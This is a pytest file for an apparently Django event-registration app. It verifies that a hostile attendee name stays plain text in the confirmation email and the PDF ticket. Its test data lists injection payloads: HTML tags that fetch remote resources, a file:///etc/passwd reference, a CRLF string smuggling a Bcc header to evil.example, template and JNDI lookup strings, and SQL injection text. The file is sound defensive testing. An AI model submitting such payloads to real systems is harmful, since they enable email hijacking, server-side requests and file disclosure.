"""A hostile name stays text from the form to the mail file and the PDF."""

import email
import socket
import threading
from collections.abc import Iterator
from email import policy
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from icalendar import Calendar
from pypdf import PdfReader

from registrations.tests.builders import build_event, build_fest
from registrations.tests.form_posts import post_form
from tickets.content import ticket_file_name
from tickets.documents import ticket_pdf
from tickets.mail.send import send_due

pytestmark = pytest.mark.django_db(transaction=True)

NAMES = [
    "<img src=http://127.0.0.1:{port}/x>",
    "<style>@import 'http://127.0.0.1:{port}/x'</style>",
    "<link rel=attachment href=http://127.0.0.1:{port}/x>",
    "<img src=file:///etc/passwd>",
    "a\r\nBcc: x@evil.example",
    "{{{{7*7}}}} {{% now 'Y' %}} {{event.__init__}}",
    "%s%n ${{jndi:ldap://x}} ' OR 1=1--",
    "Zoë O'Brien-Ñandú Nguyễn",
]


@pytest.fixture
def listener() -> Iterator[tuple[int, list[Any]]]:
    """A local port, and the callers that connected to it."""
    callers: list[Any] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, caller = server.accept()
                except OSError:
                    return
                callers.append(caller)
                connection.close()

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield server.getsockname()[1], callers
        server.shutdown(socket.SHUT_RDWR)
        thread.join(5)


def without_space(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("name", NAMES)
def test_name_is_text_from_the_form_to_the_pdf(
    client: Client, settings: Any, data_folder: Path, listener: tuple[int, list[Any]], name: str
) -> None:
    settings.EMAIL_BACKEND = "tickets.mail.file_backend.EmlBackend"
    port, callers = listener
    typed = name.format(port=port)
    shown = " ".join(typed.split())
    event = build_event(build_fest())
    assert post_form(client, event, name=typed, email="asha@example.org").status_code == 302
    assert (ticket_pdf.render_due(), send_due()) == (1, 1)
    [file] = (data_folder / "mail").glob("*.eml")
    mail = email.message_from_bytes(file.read_bytes(), policy=policy.default)
    assert (str(mail["to"]), mail["bcc"], mail["cc"]) == ("asha@example.org", None, None)
    assert str(mail["subject"]).strip().replace("\u2060", "").startswith(f"{shown}: you are registered: ")
    attached = {part.get_filename(): part.get_content() for part in mail.iter_attachments()}
    pdf = PdfReader(BytesIO(attached[ticket_file_name(event.registrations.get())]))
    text = "".join(page.extract_text() for page in pdf.pages)
    assert without_space(shown) in without_space(text)
    assert ("root:" in text, len(pdf.attachments), callers) == (False, 0, [])
    calendar = Calendar.from_ical(attached[f"{event.slug}.ics"])
    assert [str(entry["summary"]) for entry in calendar.walk("vevent")] == [event.name]
